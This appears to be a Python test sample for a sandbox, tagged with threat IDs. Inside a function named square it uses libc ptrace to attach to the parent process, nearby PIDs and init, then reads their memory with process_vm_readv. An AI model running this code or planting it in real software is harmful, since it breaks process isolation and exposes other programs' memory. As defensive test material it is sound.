"""Attaches to its parent with ptrace, and reads and writes its memory with process_vm_readv.

Threat: A6, D25.
"""

import ctypes
import os

LIBC = ctypes.CDLL(None, use_errno=True)


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def square(x):
    buffer = ctypes.create_string_buffer(4096)
    for pid in {os.getppid(), os.getppid() - 1, os.getppid() - 2, 1}:
        if LIBC.ptrace(16, pid, 0, 0) == 0:
            print("attached to", pid)
        local = Iovec(ctypes.cast(buffer, ctypes.c_void_p), 4096)
        remote = Iovec(0x400000, 4096)
        if LIBC.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
            print("read", pid, buffer.raw)
    return x
